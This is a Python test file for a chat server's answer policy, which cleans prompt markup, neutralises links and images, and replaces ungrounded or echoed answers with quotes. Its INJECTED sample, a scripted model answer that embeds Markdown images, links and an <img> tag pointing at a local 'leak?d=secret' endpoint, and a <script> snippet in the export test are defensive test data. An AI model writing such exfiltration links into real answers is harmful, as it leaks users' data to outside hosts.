"""What an answer becomes before it is shown (answers/policy.py): markup cleaned, links and images
kept only when the user's sources hold their target, an empty or echoed answer replaced by a quote.

The model is scripted (the OpenAI-compatible fake server behind the `openai` backend): what is under
test is what the server does with whatever a model writes, on /chat (streamed or not), /v1 and the
Markdown export."""
from __future__ import annotations

import json
import re
from typing import Any

import pytest

from answers.policy import SafeStream, clean, inert_markdown, neutralise
from api.streaming import parse_events
from tests.llm.test_remote_llm import QUESTION, fake, remote_app  # noqa: F401 - fixtures

LEAK = "http://127.0.0.1:40585/leak?d="
INJECTED = (f"The ferry leaves at 7:45. ![status]({LEAK}secret) See [the timetable]({LEAK}x) or "
            f'<img src="{LEAK}y"> and <{LEAK}z>. Run dpkg --search <path> as the notes say.')
def live(text: str) -> str:
    """The text less its code spans: what a Markdown renderer could turn into a link or an image."""
    return re.sub(r"`[^`]*`", "", text)


SOURCES = "The harbour ferry leaves at 7:45. Run dpkg --search <path>. Details: [map](https://harbour.example/map)"


def test_clean_removes_the_prompts_markup_and_a_preface() -> None:
    assert clean('The answer to this question is: It left in 1977.</source>\n<|im_end|>') == "It left in 1977."
    assert clean('<documents>\n<source id="1" file="a.pdf">\n</source>') == ""
    assert clean("Use a < b and x > y.") == "Use a < b and x > y."


def test_neutralise_keeps_only_targets_the_sources_hold() -> None:
    safe = neutralise(INJECTED, SOURCES)
    assert LEAK not in live(safe) and "<img" not in safe and f"`{LEAK}z`" in safe
    assert "the timetable" in safe and "dpkg --search <path>" in safe  # the text and a placeholder stay
    kept = neutralise("See [map](https://harbour.example/map).", SOURCES)
    assert kept == "See [map](https://harbour.example/map)."


@pytest.mark.parametrize("text", [INJECTED, "Plain [1] citation, then [a](b", "x <b>bold</b> y < z",
                                  "![a](" + LEAK + "1)\n[b](c)", "[" * 5 + "]"])
def test_a_streamed_answer_is_neutralised_piece_by_piece(text: str) -> None:
    stream = SafeStream(SOURCES)
    pieces = [stream.feed(character) for character in text] + [stream.flush()]
    assert "".join(pieces) == neutralise(text, SOURCES)
    assert not any(LEAK in live(piece) for piece in pieces)


def test_exports_are_inert() -> None:
    inert = inert_markdown(f"Look ![x]({LEAK}1) <script>alert(1)</script> a < b")
    assert "![" not in inert and "<script" not in inert and "a < b" in inert


def _v1(client: Any, account: Any, stream: bool) -> str:
    body = {"model": "remote-qwen+rag", "messages": [{"role": "user", "content": QUESTION}], "stream": stream}
    response = client.post("/v1/chat/completions", json=body, headers=account.headers)
    assert response.status_code == 200, response.get_data(as_text=True)
    if not stream:
        return response.get_json()["choices"][0]["message"]["content"]
    chunks = [json.loads(line[6:]) for line in response.get_data(as_text=True).splitlines()
              if line.startswith("data: {")]
    return "".join(chunk["choices"][0]["delta"].get("content") or "" for chunk in chunks)


def test_an_injected_image_reaches_no_client(remote_app, fake) -> None:  # noqa: F811
    fake.answer = INJECTED
    client, account, session = remote_app()
    streamed = parse_events(client.post("/chat/message", json={"sessionId": session, "message": QUESTION,
                                                               "stream": True}, headers=account.headers)
                            .get_data(as_text=True))
    tokens = "".join(data["text"] for name, data in streamed if name == "token")
    whole = client.post("/chat/message", json={"sessionId": session, "message": QUESTION},
                        headers=account.headers).get_json()["reply"]["content"]
    answers = {"chat stream": tokens, "chat done": streamed[-1][1]["reply"]["content"], "chat": whole,
               "v1": _v1(client, account, False), "v1 stream": _v1(client, account, True)}
    for where, answer in answers.items():
        assert "7:45" in answer and LEAK not in live(answer) and "<img" not in answer, (where, answer)
    exported = client.get(f"/chat/sessions/{session}/export?format=markdown", headers=account.headers)
    assert LEAK not in live(exported.get_data(as_text=True)) and "<img" not in exported.get_data(as_text=True)


def test_an_echoed_prompt_becomes_a_quote_of_the_best_passage(remote_app, fake) -> None:  # noqa: F811
    fake.answer = '<documents>\n<source id="1" file="ferry.txt">\nHarbour timetable.'
    client, account, session = remote_app()
    body = client.post("/chat/message", json={"sessionId": session, "message": QUESTION},
                       headers=account.headers).get_json()
    reply = body["reply"]
    assert reply["answer_kind"] == "quote" and reply["content"].startswith("Quoted from ferry.txt [1]:")
    assert "> The harbour ferry leaves at 7:45 every morning from pier two." in reply["content"]
    assert body["grounding"] is None and "<" not in reply["content"]
    events = parse_events(client.post("/chat/message", json={"sessionId": session, "message": QUESTION,
                                                             "stream": True}, headers=account.headers)
                          .get_data(as_text=True))
    tokens = "".join(data["text"] for name, data in events if name == "token")
    assert tokens == events[-1][1]["reply"]["content"] == reply["content"]
    assert "7:45" in _v1(client, account, False)


@pytest.fixture(scope="module")
def policy() -> Any:
    from answers.grounding import GroundingChecker
    from answers.policy import AnswerPolicy
    from rag.embedder import Embedder, packaged_model_path
    from rag.retriever import Source

    embedder = Embedder.shared(packaged_model_path(), "cpu", "bfloat16")
    texts = ["Voyager 1 was launched on September 5, 1977, from Cape Canaveral aboard a Titan IIIE rocket.",
             "Mission log, page two: Voyager 1 entered interstellar space in August 2012."]
    sources = [Source(document_id=f"d{number}", filename="voyager.pdf", version=1, page=number, chunk_index=0,
                      score=0.9, excerpt=text[:80], section=None, row=None, text=text)
               for number, text in enumerate(texts, start=1)]
    return AnswerPolicy(GroundingChecker(lambda: embedder)), sources


def test_a_backed_answer_on_the_question_is_kept_with_its_check(policy) -> None:
    answers, sources = policy
    final = answers.final("When was Voyager 1 launched?", "Voyager 1 was launched on September 5, 1977.", sources)
    assert final.kind == "generated" and final.grounding and final.grounding["unsupported"] == 0


def test_a_passage_off_the_question_becomes_the_right_quote(policy) -> None:
    """The echo from the issue: a verbatim passage (supported!) that does not answer the question."""
    answers, sources = policy
    final = answers.final("Where was it launched from?",
                          "Mission log, page two: Voyager 1 entered interstellar space in August 2012.", sources)
    assert final.kind == "quote" and "Cape Canaveral" in final.text and final.text.startswith(
        "Quoted from voyager.pdf, page 1 [1]:")


def test_an_answer_no_source_backs_becomes_a_quote(policy) -> None:
    answers, sources = policy
    final = answers.final("When was Voyager 1 launched?",
                          "Voyager 1 was launched by the navy from a submarine in the Pacific in 1966.", sources)
    assert final.kind == "quote" and "1977" in final.text and final.grounding is None


LONG = ("The harbour ferry leaves at 7:45 every morning. It leaves from pier two. The harbour timetable says 7:45. "
        "Pier two is where the morning ferry waits. Harbour timetable: the ferry leaves every morning from pier two. "
        "Departure is at 7:45 sharp.")


def test_an_answer_ends_after_a_few_sentences_unless_asked_for_more(remote_app, fake) -> None:  # noqa: F811
    """CHAT_ANSWER_SENTENCES (4) on /chat, streamed or not, and on /v1 with documents; a question that
    asks for a list gets three times as many, and a request may set its own limit."""
    fake.answer = LONG
    client, account, session = remote_app()
    four = LONG[:LONG.index(" Harbour timetable:")]
    events = parse_events(client.post("/chat/message", json={"sessionId": session, "message": QUESTION,
                                                             "stream": True}, headers=account.headers)
                          .get_data(as_text=True))
    assert "".join(data["text"] for name, data in events if name == "token") == four
    assert events[-1][1]["reply"]["content"] == four and events[-1][1]["generation"]["max_sentences"] == 4
    assert _v1(client, account, False) == four and _v1(client, account, True) == four

    def ask(message: str, **body: Any) -> str:
        return client.post("/chat/message", json={"sessionId": session, "message": message, **body},
                           headers=account.headers).get_json()["reply"]["content"]

    assert ask("List all the times the harbour ferry leaves in the morning.") == LONG
    assert ask(QUESTION, generation={"max_sentences": 1}) == "The harbour ferry leaves at 7:45 every morning."


def test_an_answer_that_invents_a_command_or_a_number_becomes_a_quote(policy) -> None:
    """Well supported in words, but `voyager --launch-log`, 1976 and the code block's command are in
    no source (the question's own "Voyager 1" is fine): the reply is the quote, not an invented fact.
    A code block copied from the sources (its lines, white space aside) is no invention."""
    answers, sources = policy
    for invented in ("Voyager 1 was launched on September 5, 1977. Run `voyager --launch-log` to see it.",
                     "Voyager 1 was launched from Cape Canaveral on September 5, 1976.",
                     "Voyager 1 was launched on September 5, 1977. To see it:\n\n```bash\nshow launch voyager\n```"):
        final = answers.final("When was Voyager 1 launched?", invented, sources)
        assert final.kind == "quote" and "1977" in final.text, invented
    from answers.grounding import invented_facts

    copied = "List them:\n\n```\nSELECT name FROM sqlite_schema\nWHERE type='table'\n```"
    assert not invented_facts(copied, "Run SELECT name FROM sqlite_schema\n    WHERE type='table'\nORDER BY name;")


def test_a_quote_starts_where_the_answer_does() -> None:
    """A FAQ's own question matches the user's best, yet answers nothing: the quote starts after it;
    a chunk's section heading is not quoted either."""
    from answers.policy import best_passage
    from rag.retriever import Source

    def source(text: str, section: str | None = None) -> Source:
        return Source(document_id="d1", filename="faq.html", version=1, page=None, chunk_index=0, score=0.8,
                      excerpt=text[:40], section=section, row=None, text=text)

    faq = source("(3) How do I reset the Zephyr router? Hold its button for seventeen seconds. Then wait a "
                 "minute. (4) How do I pair it?")
    assert best_passage("How do I reset the Zephyr router?", [faq]) == (
        1, "Hold its button for seventeen seconds. Then wait a minute.")
    manual = source("Zephyr router reset\nUnplug the router first. Hold its button for seventeen seconds.",
                    section="Zephyr router reset")
    assert best_passage("Zephyr router reset", [manual])[1] == "Unplug the router first. Hold its button for seventeen seconds."
    # Under a heading that asks the question, the answer is what follows it, even when another
    # source's sentence repeats more of the question's words (FFmpeg's FAQ: "make fate" twice).
    asked = source("Make sure you have the fate-suite samples and that SAMPLES points to them. See the "
                   "developer documentation.", section="4.16 Why is make fate not finding the samples?")
    nearby = source("Why is make fate not running all tests? Some tests need samples not found on all "
                    "platforms, and make fate skips them.", section="4.15 Why is make fate not running all tests?")
    assert best_passage("Why is make fate not finding the samples?", [nearby, asked]) == (
        2, "Make sure you have the fate-suite samples and that SAMPLES points to them. See the developer documentation.")


def _source(text: str, section: str | None = None, page: int | None = None) -> Any:
    from rag.retriever import Source

    return Source(document_id="d1", filename="faq.pdf", version=1, page=page, chunk_index=0, score=0.8,
                  excerpt=text[:40], section=section, row=None, text=text)


def test_a_quote_skips_a_heading_that_restates_the_question() -> None:
    """A FAQ entry's question split into sentences, or over a PDF's lines, is not its answer; and a
    quote ends on whole sentences, not on a line break."""
    from answers.policy import best_passage

    two_sentences = _source("(26) The choir requires that every singer attend the Thursday rehearsal, but Anna "
                            "does not do this. Isn't that unfair? Anna sings only the solo parts. Soloists "
                            "rehearse with the conductor on Mondays.")
    assert best_passage("The choir requires that every singer attend the Thursday rehearsal, but Anna does not "
                        "do this. Isn't that unfair?", [two_sentences])[1] == (
        "Anna sings only the solo parts. Soloists rehearse with the conductor on Mondays.")
    over_lines = _source("3.22: How do I get the lantern to stay lit in the\nwind?\nFit the brass chimney over the "
                         "wick before you light it. The chimney's vents let\nair in from below, so the flame "
                         "burns steadily.\nSee 3.23 for oil.", page=12)
    assert best_passage("How do I get the lantern to stay lit in the wind?", [over_lines])[1] == (
        "Fit the brass chimney over the wick before you light it. The chimney's vents let air in from below, "
        "so the flame burns steadily.")


def test_a_quote_comes_from_the_chunk_that_holds_the_answer_whole() -> None:
    """Chunks overlap: the answer's first sentence ends one chunk and starts the next; the quote is
    taken from the one that goes on."""
    from answers.policy import best_passage

    earlier = _source("Ferries leave from pier two. (5) When does the last ferry leave? The last ferry leaves at 23:10.")
    later = _source("(5) When does the last ferry leave? The last ferry leaves at 23:10. On Sundays it leaves at "
                    "21:40 instead.")
    assert best_passage("When does the last ferry leave?", [earlier, later]) == (
        2, "The last ferry leaves at 23:10. On Sundays it leaves at 21:40 instead.")


def test_a_bare_yes_or_no_becomes_a_quote(policy) -> None:
    """"No, there is no limit" restates the question and is backed by its words alone: the passage
    that answers is quoted instead."""
    answers, _ = policy
    sources = [_source("(8) Is there a limit on the number of guests at the Harbour Hall? The hall holds at most "
                       "120 guests, by fire regulation.")]
    final = answers.final("Is there a limit on the number of guests at the Harbour Hall?",
                          "No, there is no limit on the number of guests at the Harbour Hall.", sources)
    assert final.kind == "quote" and "120 guests" in final.text


def test_an_answer_from_the_neighbouring_entry_becomes_a_quote(policy) -> None:
    """The model answered the next FAQ entry (its words are all in another chunk); the entry the
    question names is quoted instead, and an answer from that entry stands."""
    answers, _ = policy
    question = "How do I reset the Zephyr router?"
    sources = [_source("(3) How do I reset the Zephyr router? Hold its button for seventeen seconds, then wait a "
                       "minute while it restarts."),
               _source("(4) How do I pair the Zephyr router with a phone? Open the app and scan the code printed on "
                       "the router's base.")]
    neighbour = answers.final(question, "Open the app and scan the code printed on the Zephyr router's base.", sources)
    assert neighbour.kind == "quote" and "seventeen seconds" in neighbour.text
    right = answers.final(question, "Hold the Zephyr router's button for seventeen seconds, then wait a minute.",
                          sources)
    assert right.kind == "generated"


def test_an_answer_that_restates_itself_says_it_once(policy) -> None:
    """A small model out of things to say writes its sentence again in other orders; a sentence with
    something new (another number) stays, and so do repeated lines of code."""
    answers, sources = policy
    looping = ("Voyager 1 was launched on September 5, 1977. On September 5, 1977, Voyager 1 was launched. "
               "Voyager 1 was launched on September 5, 1977. Voyager 1 entered interstellar space in August 2012.")
    final = answers.final("When was Voyager 1 launched?", looping, sources)
    assert final.kind == "generated" and final.text == (
        "Voyager 1 was launched on September 5, 1977. Voyager 1 entered interstellar space in August 2012.")
    from answers.policy import without_repeats

    code = "Run it twice:\n\n```\nmake clean all\nmake clean all\n```\nThe second run is quiet."
    assert without_repeats(code) == code
